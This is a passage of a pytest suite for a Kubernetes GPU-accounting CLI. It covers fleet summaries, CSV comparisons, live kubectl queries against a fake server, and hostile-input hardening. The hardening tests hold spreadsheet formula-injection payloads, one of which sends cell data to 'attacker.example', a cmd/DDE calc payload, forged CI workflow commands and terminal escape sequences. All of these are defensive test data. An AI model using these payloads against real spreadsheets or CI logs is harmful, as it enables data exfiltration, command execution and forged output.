    (tmp_path / "fleet.yaml").write_text(as_list([jobset]))
    pods = yaml.safe_load(kubectl_pods())
    for pod in pods["items"]:
        pod["metadata"]["ownerReferences"][0]["name"] = pod["metadata"]["name"].rsplit("-", 1)[0]
    pods["items"].append({"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "demo-workers-0",
        "namespace": "default", "uid": "job", "ownerReferences": [{"apiVersion": "jobset.x-k8s.io/v1alpha2",
        "kind": "JobSet", "name": "demo", "uid": jobset["metadata"]["uid"], "controller": True}]}})  # fmt: skip
    workers = [p for p in pods["items"] if p["kind"] == "Pod" and "workers" in p["metadata"]["name"]]
    workers[0]["spec"]["containers"][0]["resources"]["limits"]["nvidia.com/gpu"] = "4"
    workers[1]["status"] = {"phase": "Succeeded"}  # finished: its GPU is free again
    del workers[2]["spec"]["nodeName"]  # not scheduled yet
    workers[2]["status"] = {"phase": "Pending", "conditions": [{"type": "PodScheduled", "status": "False"}]}
    (tmp_path / "pods.yaml").write_text(yaml.safe_dump(pods))
    held = {p["metadata"]["name"]: int(p["spec"]["containers"][0]["resources"]["limits"]["nvidia.com/gpu"])
            for p in pods["items"] if p["kind"] == "Pod" and p["spec"].get("nodeName")
            and p["status"]["phase"] not in ("Succeeded", "Failed")}  # fmt: skip
    assert sum(held.values()) == 1 + 4 + 1  # the leader, the 4-GPU worker, the last worker
    code, doc, err = summary_json(capsys, "fleet.yaml", "--pods", "pods.yaml", "--rows", "role")
    assert code == 0, err
    by_role = {r["instance"]: r for r in doc["rows"]}
    assert (
        by_role["leader"]["resources"]["allocatedGpus"] == 1 and by_role["workers"]["resources"]["allocatedGpus"] == 5
    )
    assert (by_role["workers"]["ready"], by_role["workers"]["replicas"]) == (2, 4)
    assert doc["totals"]["all"]["resources"]["allocatedGpus"] == 6 and doc["totals"]["all"]["resources"]["gpus"] == 17
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--pods", "pods.yaml")
    head, row = (line.split() for line in out.splitlines()[:2])
    assert dict(zip(head, row, strict=True))["ALLOCATED"] == "6"
    (tmp_path / "held.csv").write_text("namespace,kind,name,allocatedGpus\ndefault,JobSet,demo,6\n")
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--pods", "pods.yaml", "--compare", "held.csv")
    assert code == 0 and "the same figures" in out, out
    code, out, err = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "held.csv")
    assert code == 2 and "held.csv: allocatedGpus needs pods: give --pods, or use --kubectl" in err


def two_jobs_named_train() -> list[dict]:
    """A batch/v1 Job and a Volcano Job, both `train` in namespace `ml` (the catalog's fixture objects)."""
    batch = fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))
    volcano = fixture_object(os.path.join(FIXTURES, "batch-volcano-sh-job-v1alpha1", "running.yaml"))
    for obj in (batch, volcano):
        obj["metadata"].update(name="train", namespace="ml")
    return [batch, volcano]


def test_two_workloads_of_different_groups_with_one_name_are_never_merged(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    jobs = two_jobs_named_train()
    (tmp_path / "fleet.yaml").write_text(as_list(jobs))
    _, doc, _ = summary_json(capsys, "fleet.yaml")
    gpus = {r["apiVersion"]: r["resources"]["gpus"] for r in doc["rows"]}
    assert len(gpus) == 2 and gpus["batch/v1"] != gpus["batch.volcano.sh/v1alpha1"]
    # a file with an apiVersion column: each compared with its own
    (tmp_path / "by-api.csv").write_text("apiVersion,namespace,kind,name,gpus\n" + "".join(
        f"{api},ml,Job,train,{n}\n" for api, n in gpus.items()))  # fmt: skip
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "by-api.csv")
    assert code == 0 and "the same figures" in out and "columns not compared" not in out, out
    (tmp_path / "by-group.csv").write_text(f"group,kind,name,gpus\nbatch,Job,train,{gpus['batch/v1']}\n"
                                           "batch.volcano.sh,Job,train,0\n")  # fmt: skip
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "by-group.csv")
    assert code == 1 and re.search(
        rf"batch\.volcano\.sh\s+Job\s+train\s+gpus\s+{gpus['batch.volcano.sh/v1alpha1']}\s+0", out
    )
    assert not re.search(r"^batch\s", out.split("TOTAL")[0], re.M)  # the batch/v1 Job agrees
    # without a group: the line matches two workloads, and says so rather than adding them up
    (tmp_path / "names.csv").write_text(f"namespace,kind,name,gpus\nml,Job,train,{sum(gpus.values())}\n")
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "names.csv")
    assert code == 1, out
    assert (f"workloads of 2 API groups have this key (Job (batch): gpus {gpus['batch/v1']}, Job (batch.volcano.sh): "
            f"gpus {gpus['batch.volcano.sh/v1alpha1']}): they are not added together; add an apiVersion or group "
            "column") in out  # fmt: skip
    row = next(line for line in out.splitlines() if line.startswith("ml "))
    assert row.split()[:6] == ["ml", "Job", "train", "gpus", "-", str(sum(gpus.values()))], row  # never their sum


def test_a_per_namespace_difference_is_explained_by_the_workloads_behind_it(tmp_path, monkeypatch, capsys):
    """team-c's script counts Volcano Jobs as 0 and team-b's counts the desired GPUs of a completed
    Job as in use: each difference names the workloads that make it, largest first."""
    monkeypatch.chdir(tmp_path)
    objects = []
    for i in range(3):  # team-c: three Volcano Jobs and a PyTorchJob
        volcano = fixture_object(os.path.join(FIXTURES, "batch-volcano-sh-job-v1alpha1", "running.yaml"))
        volcano["metadata"].update(name=f"sim-{i}", namespace="team-c")
        objects.append(volcano)
    torch = fixture_object(os.path.join(FIXTURES, "kubeflow-org-pytorchjob-v1", "manifest.yaml"))
    torch["metadata"].update(namespace="team-c")
    objects.append(torch)
    for path, name in (("running.yaml", "train"), ("completed.yaml", "done")):  # team-b: two batch Jobs
        job = fixture_object(os.path.join(FIXTURES, "batch-job-v1", path))
        job["metadata"].update(name=name, namespace="team-b")
        objects.append(job)
    (tmp_path / "fleet.yaml").write_text(as_list(objects))
    _, doc, _ = summary_json(capsys, "fleet.yaml")
    gpus = {(r["namespace"], r["kind"], r["name"]): r["resources"] for r in doc["rows"]}
    volcano_gpus = sum(v["gpus"] for k, v in gpus.items() if k[1] == "Job" and k[0] == "team-c")
    torch_gpus = gpus[("team-c", "PyTorchJob", torch["metadata"]["name"])]["gpus"]
    done = gpus[("team-b", "Job", "done")]["gpus"]
    running = gpus[("team-b", "Job", "train")]["gpus"]
    assert volcano_gpus and torch_gpus and done and running
    (tmp_path / "quota.csv").write_text(
        f"namespace,activeGpus\nteam-c,{torch_gpus}\nteam-b,{running + done}\n"
    )  # the script's view
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "quota.csv")
    assert code == 1, out
    lines = {line.split()[0]: line for line in out.splitlines()[2:] if line.startswith("team-")}
    assert lines["team-c"].split()[1:4] == ["activeGpus", str(volcano_gpus + torch_gpus), str(torch_gpus)]
    assert (f"{volcano_gpus} more than the file: the file counts as 0: 3 Job (batch.volcano.sh/v1alpha1): "
            f"{volcano_gpus}") in lines["team-c"]  # fmt: skip
    assert lines["team-b"].split()[1:4] == ["activeGpus", str(running), str(running + done)]
    assert (f"{done} less than the file: the file counts the desired GPUs of workloads not active now: "
            f"1 status Completed: {done}") in lines["team-b"]  # fmt: skip
    # the same, in JSON (each column's note) and CSV
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "quota.csv", "-f", "json")
    comparison = json.loads(out)
    validate(comparison)
    notes = {d["key"]["namespace"]: d["values"]["activeGpus"]["note"] for d in comparison["differences"]}
    assert notes["team-c"].startswith(f"{volcano_gpus} more than the file: the file counts as 0")
    # a grouped difference without an exact cause lists the kinds behind it, largest first
    (tmp_path / "off.csv").write_text(f"namespace,gpus\nteam-c,{volcano_gpus + torch_gpus + 1000}\n")
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "off.csv")
    first, second = sorted([(volcano_gpus, "3 Job (batch.volcano.sh/v1alpha1)"),
                            (torch_gpus, "1 PyTorchJob (kubeflow.org/v1)")], reverse=True)  # fmt: skip
    assert f"1000 less than the file: behind it: {first[1]}: {first[0]}, {second[1]}: {second[0]}" in out, out


# -- the live cluster through the real kubectl, against tests/kube_server.py --------------------------

needs_kubectl = pytest.mark.skipif(
    shutil.which("kubectl") is None, reason="kubectl is not installed (.ci/run installs it)"
)


def demo_jobset_with_jobs_and_pods() -> list[dict]:
    """The JobSet `demo` as `kubectl get` prints it, with the Jobs and pods its controllers create.
    Facts, not code: kubernetes-sigs/jobset@ec942521899668e414d1775da8a2acffbd1b1d17
    pkg/controllers/jobset_controller.go (constructJob: one Job per replica named
    `<jobset>-<replicatedJob>-<index>`, labelled jobset.sigs.k8s.io/jobset-name and
    replicatedjob-name, the JobSet its controller owner); the Job controller
    (kubernetes/kubernetes pkg/controller/job) names indexed pods `<job>-<index>-<suffix>`, labels them
    batch.kubernetes.io/job-name and controller-uid, the Job their controller owner."""
    from test_project import KUBECTL_JOBSET

    jobset = yaml.safe_load(KUBECTL_JOBSET)
    meta = jobset["metadata"]
    out = [jobset]
    nodes = iter(["gpu-node-a", "gpu-node-b"] * 8)
    for rjob in jobset["spec"]["replicatedJobs"]:
        template = rjob["template"]["spec"]
        for index in range(rjob["replicas"]):
            job_name = f"{meta['name']}-{rjob['name']}-{index}"
            labels = {"jobset.sigs.k8s.io/jobset-name": meta["name"], "jobset.sigs.k8s.io/replicatedjob-name": rjob["name"],
                      "jobset.sigs.k8s.io/job-index": str(index)}  # fmt: skip
            job_uid = f"uid-{job_name}"
            out.append({"apiVersion": "batch/v1", "kind": "Job",
                        "metadata": {"name": job_name, "namespace": meta["namespace"], "uid": job_uid, "labels": labels,
                                     "ownerReferences": [{"apiVersion": "jobset.x-k8s.io/v1alpha2", "kind": "JobSet",
                                                          "name": meta["name"], "uid": meta["uid"], "controller": True,
                                                          "blockOwnerDeletion": True}]},
                        "spec": template, "status": {"active": template["parallelism"]}})  # fmt: skip
            for pod_index in range(template["parallelism"]):
                pod = {"apiVersion": "v1", "kind": "Pod",
                       "metadata": {"name": f"{job_name}-{pod_index}-x{index}{pod_index}", "namespace": meta["namespace"],
                                    "uid": f"uid-{job_name}-{pod_index}",
                                    "labels": {**labels, "batch.kubernetes.io/job-name": job_name,
                                               "batch.kubernetes.io/controller-uid": job_uid},
                                    "ownerReferences": [{"apiVersion": "batch/v1", "kind": "Job", "name": job_name,
                                                         "uid": job_uid, "controller": True, "blockOwnerDeletion": True}]},
                       "spec": {**copy.deepcopy(template["template"]["spec"]), "nodeName": next(nodes)},
                       "status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}]}}  # fmt: skip
                out.append(pod)
    return out


@pytest.fixture
def cluster(tmp_path, monkeypatch, workloads):
    """A local server answering kubectl with the demo JobSet (its Jobs and pods), the recorded
    workloads and a CronJob with an active Job; PyTorchJobs are forbidden to the user. kubectl reads
    the server from KUBECONFIG and caches discovery under HOME (both in tmp_path)."""
    from kube_server import KubeServer

    cron = fixture_object(os.path.join(FIXTURES, "batch-cronjob-v1", "running.yaml"))
    active = cron["status"]["active"][0]
    cron_job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": active["name"],
                "namespace": cron["metadata"]["namespace"], "uid": active.get("uid", "cron-job-uid"),
                "ownerReferences": [{"apiVersion": "batch/v1", "kind": "CronJob", "name": cron["metadata"]["name"],
                                     "uid": cron["metadata"]["uid"], "controller": True}]},
                "spec": cron["spec"]["jobTemplate"]["spec"]}  # fmt: skip
    objects = [*demo_jobset_with_jobs_and_pods(), *workloads, cron, cron_job]
    monkeypatch.chdir(tmp_path)
    with KubeServer(objects, forbidden={"pytorchjobs.kubeflow.org"}) as server:
        (tmp_path / "kubeconfig").write_text(server.kubeconfig())
        monkeypatch.setenv("KUBECONFIG", str(tmp_path / "kubeconfig"))
        monkeypatch.setenv("HOME", str(tmp_path))
        yield server


@needs_kubectl
def test_live_describe_shows_the_object_with_its_pods_and_nodes_as_kli_does(cluster, tmp_path, capsys):
    jobset, *rest = demo_jobset_with_jobs_and_pods()
    (tmp_path / "demo.yaml").write_text(yaml.safe_dump(jobset))
    (tmp_path / "pods.yaml").write_text(as_list([p for p in rest if p["kind"] == "Pod"]))  # the offline way
    code, offline, err = run(capsys, "describe", "demo.yaml", "--pods", "pods.yaml")
    assert code == 0, err
    for argv in (["--kubectl", "jobset/demo"], ["--kubectl", "jobset", "demo", "-n", "default"],
                 ["--kubectl", "JobSet.v1alpha2.jobset.x-k8s.io", "demo", "--context", "test"]):  # fmt: skip
        code, live, err = run(capsys, "describe", *argv)
        assert code == 0, err
        assert live == offline  # the same tree: ready pods, GPUs and nodes per role
    assert "4/4 ready" in live and "gpu-node-a,gpu-node-b" in live and "(no pods given" not in live
    assert "/apis/jobset.x-k8s.io/v1alpha2/namespaces/default/jobsets/demo" in cluster.requests
    assert "/api/v1/namespaces/default/pods" in cluster.requests  # the pods of its namespace only
    assert "/apis/batch/v1/namespaces/default/jobs" in cluster.requests  # their owners, to reach the JobSet
    code, out, err = run(capsys, "describe", "--kubectl", "jobset", "gone", "-n", "default")
    assert code == 2 and out == "" and err.count("\n") == 1
    assert 'Error from server (NotFound): jobsets.jobset.x-k8s.io "gone" not found' in err
    code, out, err = run(capsys, "describe", "--kubectl", "pytorchjob/anything", "-n", "team-0")
    assert code == 2 and "(Forbidden): pytorchjobs.kubeflow.org is forbidden" in err and err.count("\n") == 1


@needs_kubectl
def test_kubectl_karta_describe_takes_kubectls_word_order(cluster, tmp_path):
    """`kubectl karta describe jobset demo -n default`, run by the real kubectl as a plugin."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    plugin = bin_dir / "kubectl-karta"
    plugin.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m kartalint.cli.kubectl "$@"\n')
    plugin.chmod(0o755)
    env = dict(os.environ, PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    proc = subprocess.run(["kubectl", "karta", "describe", "jobset", "demo", "-n", "default", "-o", "json"],
                          capture_output=True, text=True, env=env, timeout=120)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    view = json.loads(proc.stdout)
    assert view["workload"]["name"] == "demo" and view["resources"]["gpus"] == 17
    assert sum(c["pods"]["ready"] for c in view["components"] if c["pods"]) == 5
    proc = subprocess.run(["kubectl", "karta", "describe", "--summary", "-A", "--rows", "role", "-o", "csv"],
                          capture_output=True, text=True, env=env, timeout=300)  # fmt: skip
    assert proc.returncode == 1, proc.stderr  # PyTorchJobs are forbidden
    records = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert {(r["name"], r["instance"]) for r in records if r["name"] == "demo"} == {
        ("demo", "leader"),
        ("demo", "workers"),
    }


@needs_kubectl
def test_live_summary_lists_every_covered_kind_and_says_what_kubectl_refused(cluster, tmp_path, capsys, workloads):
    code, doc, err = summary_json(capsys, "--kubectl", "-A")
    assert code == 1, err  # a kind was forbidden: the summary is not whole
    errors = [line for line in err.splitlines() if line.startswith("kartalint: error:")]
    assert errors == [
        "kartalint: error: kubectl get PyTorchJob.v1.kubeflow.org -A -o json: Error from server (Forbidden): "
        'pytorchjobs.kubeflow.org is forbidden: User "dev" cannot list resource "pytorchjobs" in API group '
        '"kubeflow.org" at the cluster scope'
    ]
    notes = [line for line in err.splitlines() if "not served by the cluster" in line]
    assert len(notes) == 1 and "Sandbox.v1beta1.agents.x-k8s.io" in notes[0] and "JobSet" not in notes[0]
    # the rows are those of a dump of the same objects, PyTorchJobs and owned Jobs and pods left out
    allowed = [o for o in cluster.objects if o["kind"] not in ("PyTorchJob", "Pod")
               and not any(r.get("controller") for r in o["metadata"].get("ownerReferences", []))]  # fmt: skip
    (tmp_path / "dump.json").write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": allowed}))
    _, offline, _ = summary_json(capsys, "dump.json")
    key = lambda r: (r["apiVersion"], r["kind"], r["namespace"], r["name"])  # noqa: E731
    live = sorted(doc["rows"], key=key)
    assert [(key(r), r["replicas"], r["resources"]["gpus"]) for r in live] == sorted(
        (key(r), r["replicas"], r["resources"]["gpus"]) for r in offline["rows"]
    )
    assert doc["podsGiven"] is True
    demo = next(r for r in doc["rows"] if r["name"] == "demo")
    assert (demo["ready"], demo["resources"]["allocatedGpus"], demo["resources"]["gpus"]) == (5, 17, 17)
    owned = {(o["kind"], o["owner"]): o["objects"] for o in doc["owned"]}
    assert owned == {("Job", "CronJob (batch)"): 1, ("Job", "JobSet (jobset.x-k8s.io)"): 3, ("Pod", "Job (batch)"): 5}
    cron = next(r for r in doc["rows"] if r["kind"] == "CronJob")
    assert cron["active"] is True and cron["resources"]["activeGpus"] == cron["resources"]["gpus"] > 0
    # one list per kind, each at the version a definition covers, and the pods once
    assert "/apis/jobset.x-k8s.io/v1alpha2/jobsets" in cluster.requests and "/api/v1/pods" in cluster.requests
    assert sum(1 for r in cluster.requests if r == "/api/v1/pods") == 1
    # one namespace: -n NS is passed to every kubectl get
    cluster.forget()
    code, doc, err = summary_json(capsys, "--kubectl", "-n", "team-0", "--rows", "role")
    assert code == 1 and {r["namespace"] for r in doc["rows"]} == {"team-0"}, err
    listed = [r for r in cluster.requests if r.endswith(("/jobsets", "/pods", "/pytorchjobs"))]
    assert listed and all("/namespaces/team-0/" in r for r in listed), listed


def test_live_mode_without_kubectl_on_the_path_is_one_clear_line(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", str(tmp_path))  # no kubectl there
    for argv in (["--kubectl", "jobset/demo"], ["--summary", "--kubectl", "-A"]):
        code, out, err = run(capsys, "describe", *argv)
        assert code == 2 and out == "" and err.count("\n") == 1, err
        assert err.startswith("kartalint: error: kubectl is not on the PATH: --kubectl runs your kubectl")
    code, _, err = run(capsys, "describe", "fleet.yaml", "-n", "ml")
    assert code == 2 and "-n go with --kubectl" in err


# -- hostile inputs of the fleet summary (issue 45, items 6, 8, 10, 11 and 13) -----------------------

FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tpadded", "\rreturned"]  # fmt: skip


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, monkeypatch, capsys):
    """Item 6: a workload named like a formula is written with a leading ' (OWASP's advice) in the
    summary's CSV, per workload and per role, and in the comparison's CSV; numbers stay numbers."""
    monkeypatch.chdir(tmp_path)
    objects = []
    for i, name in enumerate(FORMULAS):
        job = fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))
        job["metadata"].update(name=name, namespace=FORMULAS[(i + 1) % len(FORMULAS)], uid=f"u{i}")
        objects.append(job)
    (tmp_path / "fleet.yaml").write_text(as_list(objects))
    for rows in ("workload", "role"):
        code, out, err = run(capsys, "describe", "fleet.yaml", "--summary", "-f", "csv", "--rows", rows)
        assert code == 0, err
        records = list(csv.DictReader(io.StringIO(out, newline="")))
        shown = ["'" + name.replace("\r", "\\r") for name in FORMULAS]  # the report writer escapes a CR inside a line
        assert [r["name"] for r in records] == shown
        assert [r["namespace"] for r in records] == [shown[(i + 1) % len(shown)] for i in range(6)]
        for record in records:
            assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in record.values())
            assert record["gpus"] == "8" and record["cpuMillis"] == "16000"
    for i, obj in enumerate(objects[:4]):  # (spaces around a key cell of the user's file are not part of it)
        obj["metadata"]["namespace"] = FORMULAS[(i + 1) % 4]
    (tmp_path / "fleet.yaml").write_text(as_list(objects[:4]))
    with open("quota.csv", "w", encoding="utf-8", newline="") as handle:  # the user's file names them too
        writer = csv.writer(handle)
        writer.writerow(["namespace", "kind", "name", "gpus"])
        for obj in objects[:4]:
            writer.writerow(
                [obj["metadata"]["namespace"], "Job", obj["metadata"]["name"], -3 if obj is objects[0] else 8]
            )
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "quota.csv", "-f", "csv")
    assert code == 1
    records = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [(r["scope"], r["namespace"], r["name"], r["summary"], r["file"]) for r in records] == [
        ("row", "'" + FORMULAS[1], "'" + FORMULAS[0], "8", "-3"), ("total", "", "", "32", "21")]  # fmt: skip
    from kartalint.report.spreadsheet import neutralised

    assert [neutralised(v) for v in ("-3", "1.5", "-2e3", "=1+1", "-", "+", "@", "safe", "")] == [
        "-3", "1.5", "-2e3", "'=1+1", "'-", "'+", "'@", "safe", ""]  # fmt: skip


def test_csv_cells_read_back_whatever_a_name_starts_with(tmp_path, monkeypatch, capsys):
    """Found by tests/test_fuzz.py::test_summary_csv_of_hostile_workloads_is_safe_and_reads_back:
    a name that starts with ``'`` read back without it (``'abc`` came out as ``abc``: the reader cannot
    tell the writer's mark from the name's); ``-٣`` and ``-１`` (digits of other scripts) were taken
    for numbers and written as they are; a namespace ``::add-mask::x`` started a line, which the
    output guard broke (``\\x3a:add-mask::x``). Now one leading ``'`` is always the writer's, only
    ASCII numbers are numbers, and a record that would start a line with ``::`` is quoted."""
    monkeypatch.chdir(tmp_path)
    names = ["'abc", "''", "-٣", "-１", "::add-mask::x", "  ::warning::forged"]
    objects = []
    for i, name in enumerate(names):
        job = fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))
        job["metadata"].update(name=name, namespace=name, uid=f"u{i}")
        objects.append(job)
    (tmp_path / "fleet.yaml").write_text(as_list(objects))
    code, out, err = run(capsys, "describe", "fleet.yaml", "--summary", "-f", "csv")
    assert code == 0, err
    assert not any(line.lstrip().startswith("::") for line in out.splitlines()), out
    records = list(csv.DictReader(io.StringIO(out, newline="")))
    shown = ["''abc", "'''", "'-٣", "'-１", "::add-mask::x", "  ::warning::forged"]
    assert [(r["namespace"], r["name"]) for r in records] == [(s, s) for s in shown]
    assert [re.sub("^'", "", r["namespace"]) for r in records] == names  # one leading ' taken away: the name
    assert '\r\n"::add-mask::x","Job","::add-mask::x","batch/v1",' in out  # the record that starts with :: is quoted
    assert "\r\n'-٣,Job,'-٣,batch/v1," in out  # the others are not


def test_compare_figures_that_are_not_whole_keep_their_digits_in_every_format(tmp_path, monkeypatch, capsys):
    """Found by tests/test_fuzz.py::test_compare_with_hostile_files_never_fails_and_its_csv_is_safe:
    a file's GPUs adding up to 1010 and a tiny fraction were written ``1010`` in the CSV and the table
    (``:g``, six digits: 1000000.5 was ``1e+06``) while the JSON said ``1010.0``. Every format
    writes the figure as the JSON document does now."""
    monkeypatch.chdir(tmp_path)
    job = fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))
    job["metadata"].update(name="train", namespace="ml", uid="u1")
    (tmp_path / "fleet.yaml").write_text(as_list([job]))
    (tmp_path / "quota.csv").write_text(
        "namespace,kind,name,gpus\nml,Job,train,1000000.5\nml,Job,other,1010\nml,Job,other,0." + "0" * 60 + "1\n"
    )
    argv = ["describe", "fleet.yaml", "--summary", "--compare", "quota.csv"]
    code, out, _ = run(capsys, *argv, "-f", "json")
    assert code == 1
    document = json.loads(out)
    files = {d["key"]["name"]: d["values"]["gpus"]["file"] for d in document["differences"]}
    assert files == {"train": 1000000.5, "other": 1010.0}
    code, out, _ = run(capsys, *argv, "-f", "csv")
    records = [r for r in csv.DictReader(io.StringIO(out, newline="")) if r["scope"] == "row"]
    assert sorted((r["name"], r["file"]) for r in records) == [("other", "1010.0"), ("train", "1000000.5")]
    code, out, _ = run(capsys, *argv)
    assert "1000000.5" in out and "1e+06" not in out and "1010.0" in out


def _compare_file_error(tmp_path, text: str) -> tuple[int, str]:
    """Run `describe --summary --compare bad.csv` in a process of its own (a hang is a failure, not
    a stuck suite): its exit code and stderr."""
    (tmp_path / "bad.csv").write_text(text)
    (tmp_path / "fleet.yaml").write_text(
        as_list([fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))])
    )
    proc = subprocess.run([sys.executable, "-m", "kartalint", "describe", "fleet.yaml", "--summary", "--compare",
                           "bad.csv"], cwd=tmp_path, capture_output=True, text=True, timeout=120)  # fmt: skip
    return proc.returncode, proc.stderr


@pytest.mark.parametrize(
    "text, message",
    [
        ("name,gpus\ntrain-once,1e5000\n", "bad.csv:2: gpus '1e5000' is out of range (an exponent of at most 100)"),
        ("name,gpus\ntrain-once,1e100000000\n", "bad.csv:2: gpus '1e100000000' is out of range"),
        ("name,cpu\ntrain-once,1e5000m\n", "bad.csv:2: cpu '1e5000m' is not a Kubernetes quantity"),
        (
            "name,gpus\ntrain-once," + "9" * 5000 + "\n",
            "bad.csv:2: gpus '9999999999999999999999999999999999999999'..."
            " is not a number: 5000 characters (at most 64)",
        ),
        (",".join(f"c{i}" for i in range(100_000)) + ",gpus\n", "bad.csv:1: 100001 columns: a header of at most 1000"),
        ("name,gpus,name\nx,1,y\n", "bad.csv:1: column 'name' appears twice"),
    ],
)
def test_a_hostile_compare_file_is_a_clear_error_never_a_traceback_or_a_hang(tmp_path, text, message):
    """Item 8: numbers and headers of the user's file are read with bounds: exit 2, file and line."""
    code, err = _compare_file_error(tmp_path, text)
    assert code == 2 and err.startswith(f"kartalint: error: {message}") and "Traceback" not in err, err


def test_stdin_is_read_as_it_comes_never_copied_to_disk(tmp_path, monkeypatch, capsys, workloads):
    """Item 10: `describe - --summary` reads standard input as it comes: nothing is written to a
    temporary file (endless input cannot fill the disk, and there is no write to fail), and input
    that never ends an object stops the reading with one clear line."""
    import tempfile

    monkeypatch.chdir(tmp_path)

    def no_disk(*args, **kwargs):
        raise AssertionError("standard input copied to a temporary file")

    monkeypatch.setattr(tempfile, "TemporaryFile", no_disk)
    monkeypatch.setattr(tempfile, "NamedTemporaryFile", no_disk)
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(json.dumps(
        {"apiVersion": "v1", "kind": "List", "items": workloads[:20]}).encode())))  # fmt: skip
    code, doc, err = summary_json(capsys, "-")
    assert code == 0 and len(doc["rows"]) == 20, err
    # a syntax error late in a stream: the full loader reads it again from the start (within max-file-size)
    stream = "".join("---\n" + yaml.safe_dump(o) for o in workloads[:3]) + "---\nkey: [unclosed\n"
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(stream.encode())))
    code, doc, err = summary_json(capsys, "-")
    assert code == 1 and len(doc["rows"]) == 3 and "<stdin>:" in doc["unreadable"][0]["origin"], err

    class Endless(io.RawIOBase):  # `yes | kartalint describe - --summary`
        def readable(self):
            return True

        def readinto(self, buffer):
            buffer[: len(buffer)] = b"y" * len(buffer)
            return len(buffer)

    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BufferedReader(Endless())))
    code, _out, err = run(capsys, "describe", "-", "--summary")
    assert code == 2 and "Traceback" not in err, err
    assert re.search(r"<stdin>: no object ends within \d+ bytes .*nothing from here on is read", err)


def test_unreadable_places_are_counted_and_only_the_first_ones_kept(tmp_path, monkeypatch, capsys):
    """Item 11: a dump of 200,000 entries that are not objects (0.8 MB) is said in a bounded way and
    held in bounded memory: the first 100 places are listed, the rest counted. Memory is measured
    against the same run on 100 entries, in processes of their own."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "many.yaml").write_text("apiVersion: v1\nkind: List\nitems:\n" + "- 1\n" * 200_000)
    (tmp_path / "few.yaml").write_text("apiVersion: v1\nkind: List\nitems:\n" + "- 1\n" * 100)
    code, doc, err = summary_json(capsys, "many.yaml")
    assert code == 2 and doc["unreadableCount"] == 200_000 and len(doc["unreadable"]) == 100
    assert err.count("\n") == 101 and "and 199900 more places that could not be read" in err
    script = ("import resource, sys; from kartalint.cli import main; main(['describe', sys.argv[1], '--summary', "
              "'-f', 'json', '-o', 'out.json']); print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)")  # fmt: skip
    peaks = {}
    for name in ("few.yaml", "many.yaml"):
        proc = subprocess.run([sys.executable, "-c", script, name], capture_output=True, text=True, timeout=600)
        peaks[name] = int(proc.stdout.split()[-1]) / 1024  # MB
    assert peaks["many.yaml"] - peaks["few.yaml"] < 50, peaks  # was 696 MB for 0.8 MB


def test_line_breaks_in_values_never_start_a_line_of_the_tables(tmp_path, monkeypatch, capsys):
    """Item 13: CR, LF and other controls in names, namespaces and keys are shown escaped in the
    summary table, its Markdown, and the compare table: no forged line."""
    monkeypatch.chdir(tmp_path)
    job = fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))
    job["metadata"].update(name="evil\nkartalint: note: all clear", namespace="ns\r\x1b[2K")
    (tmp_path / "fleet.yaml").write_text(as_list([job]))
    with open("quota.csv", "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["name", "gpus"], ["evil\nkartalint: note: all clear", 1],
                                      ["other\r\nTOTAL gpus 0 0", 2]])  # fmt: skip
    outputs = [run(capsys, "describe", "fleet.yaml", "--summary", *more)[1]
               for more in ([], ["--rows", "role"], ["-f", "markdown"], ["--compare", "quota.csv"],
                            ["--compare", "quota.csv", "-f", "markdown"])]  # fmt: skip
    for out in outputs:
        lines = out.splitlines()
        assert not any(line.startswith(("kartalint: note: all clear", "TOTAL gpus 0 0")) for line in lines), out
        assert "\r" not in out and "\x1b" not in out
        assert re.search(r"evil\\+nkartalint: note: all clear", out), out
    assert "ns\\r\\x1b[2K" in outputs[0]


def test_the_fleet_page_shows_what_its_commands_print(tmp_path):
    """docs/fleet.md's whole check, run as its docs test runs it: every text block marked
    `docs-output: exact` is printed as it is, and the lines of a `docs-output: excerpt` block
    (`...` for lines left out) are printed in that order."""
    from test_docs_examples import setup_fleet

    with open(os.path.join(ROOT, "docs", "fleet.md"), encoding="utf-8") as handle:
        page = handle.read()
    script = re.search(r"<!-- docs-test: fleet: [^>]*-->\n```sh\n(.*?)```", page, re.S).group(1)
